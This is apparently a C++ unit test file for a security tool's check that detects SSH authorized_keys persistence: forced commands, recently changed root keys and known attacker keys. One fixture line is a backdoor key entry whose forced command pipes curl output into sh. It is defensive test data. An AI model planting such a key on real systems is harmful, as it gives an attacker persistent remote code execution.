#include <gtest/gtest.h>

#include "checks/test_facts.h"

namespace deminer {
extern const Check kPersistSshKey;
namespace {

TEST(PersistSshKeyCheckTest, ForcedCommandsAndRecentRootKeys) {
  Facts facts = BaseFacts();
  facts.now = 1800000000;
  PersistItem keys = MakeItem(
      PersistKind::kAuthorizedKeys, "/root/.ssh/authorized_keys",
      {{1, "key", "", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE admin@laptop"},
       {2, "key", "",
        "command=\"curl -s http://127.0.0.1/x | sh\",no-pty ssh-rsa AAAAB3NzaC1yc2E backdoor"},
       {3, "key", "", "command=\"/usr/bin/rrsync -ro /srv\" ssh-ed25519 AAAAC3Nz backup"}},
      facts.now - 60);
  keys.user = "root";
  facts.persistence.push_back(keys);
  const auto out = RunCheck(kPersistSshKey, facts);
  ASSERT_EQ(out.size(), 3u);
  EXPECT_EQ(out[0].line, 2);
  EXPECT_GE(out[0].severity, Severity::kHigh);
  EXPECT_EQ(out[1].line, 3);
  EXPECT_EQ(out[1].severity, Severity::kMedium);
  EXPECT_EQ(out[2].title, "authorized_keys changed in the last 7 days");
  EXPECT_EQ(out[2].evidence["keys"], 3);
}

TEST(PersistSshKeyCheckTest, KeysFromTheRulePackAreCritical) {
  Facts facts = BaseFacts();
  facts.now = 1800000000;
  RulePack rules;
  rules.attacker_ssh_keys.emplace("AAAAB3NzaC1yc2EATTACKER", "test report");
  facts.persistence.push_back(MakeItem(PersistKind::kAuthorizedKeys, "/root/.ssh/authorized_keys",
                                       {{4, "key", "", "ssh-rsa AAAAB3NzaC1yc2EATTACKER x"}}));
  facts.Index();
  std::vector<Finding> out;
  kPersistSshKey.run(CheckContext{facts, rules}, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].severity, Severity::kCritical);
  EXPECT_EQ(out[0].evidence["ioc"], "test report");
  EXPECT_EQ(out[0].line, 4);
}

}  // namespace
}  // namespace deminer
